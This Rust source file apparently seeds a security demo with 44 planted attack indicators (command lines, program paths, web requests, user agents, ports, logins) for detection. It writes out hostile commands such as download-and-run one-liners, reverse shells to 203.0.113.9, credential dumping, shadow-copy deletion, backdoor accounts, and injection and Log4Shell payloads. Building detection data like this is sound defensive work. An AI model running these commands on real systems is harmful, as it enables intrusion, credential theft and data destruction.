//! What attackers leave behind, planted into the events of the demo: command lines, URLs, agents, connections.

/// Where an attack shows.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Trace {
    /// The command line of a new process.
    Command,
    /// The path of a new process's program.
    Program,
    /// The path and query of a request.
    Request,
    /// The user agent of a request.
    Agent,
    /// The port of a connection to 203.0.113.0/24.
    Connection,
    /// A failed login's user.
    Login,
}

/// The attacks.
pub const ATTACKS: [(Trace, &str); 44] = [
    (Trace::Command, "powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
    (Trace::Command, "powershell.exe IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"),
    (Trace::Command, "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe"),
    (Trace::Command, "m.exe privilege::debug sekurlsa::logonpasswords exit"),
    (Trace::Command, "vssadmin.exe delete shadows /all /quiet"),
    (Trace::Command, "wmic process call create calc.exe"),
    (Trace::Command, "rundll32.exe C:\\Users\\Public\\x.dll,Start"),
    (Trace::Command, "regsvr32.exe /s /u /i:http://203.0.113.7/f.sct scrobj.dll"),
    (
        Trace::Command,
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\u.exe",
    ),
    (Trace::Command, "schtasks /create /tn upd /tr C:\\Users\\Public\\u.exe /sc minute"),
    (Trace::Command, "net user support2 Secret123 /add"),
    (Trace::Command, "net localgroup administrators support2 /add"),
    (Trace::Command, "bitsadmin /transfer j http://203.0.113.7/p.exe C:\\p.exe"),
    (Trace::Command, "wevtutil cl Security"),
    (Trace::Command, "procdump.exe -ma lsass.exe C:\\Users\\Public\\l.dmp"),
    (Trace::Command, "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    (Trace::Command, "nc -e /bin/sh 203.0.113.9 4444"),
    (Trace::Command, "sh -c curl -fsSL http://203.0.113.9/x.sh | sh"),
    (Trace::Command, "cat /etc/shadow"),
    (Trace::Command, "chmod u+s /tmp/.x/sh"),
    (Trace::Command, "xmrig -o pool.example.net:3333 -u wallet"),
    (Trace::Command, "python3 -c import pty;pty.spawn('/bin/sh')"),
    (Trace::Command, "sh -c base64 -d /tmp/.p | sh"),
    (Trace::Command, "useradd -o -u 0 support"),
    (Trace::Command, "ssh -R 2222:localhost:22 drop@203.0.113.9"),
    (Trace::Command, "iptables -F"),
    (Trace::Program, "C:\\Users\\Public\\update.exe"),
    (Trace::Program, "C:\\Windows\\Temp\\svchost.exe"),
    (Trace::Program, "/tmp/.x/kworker"),
    (Trace::Program, "/dev/shm/sshd"),
    (Trace::Request, "/../../etc/passwd"),
    (Trace::Request, "/index.php?id=1%27 OR %271%27=%271"),
    (Trace::Request, "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    (Trace::Request, "/wp-login.php"),
    (Trace::Request, "/cgi-bin/test.cgi?cmd=id"),
    (Trace::Request, "/.git/config"),
    (Trace::Request, "/api?x=${jndi:ldap://203.0.113.7/a}"),
    (Trace::Agent, "sqlmap/1.8#stable (https://sqlmap.org)"),
    (Trace::Agent, "Nikto/2.5.0"),
    (Trace::Connection, "4444"),
    (Trace::Connection, "3333"),
    (Trace::Connection, "6667"),
    (Trace::Login, "support"),
    (Trace::Login, "guest"),
];
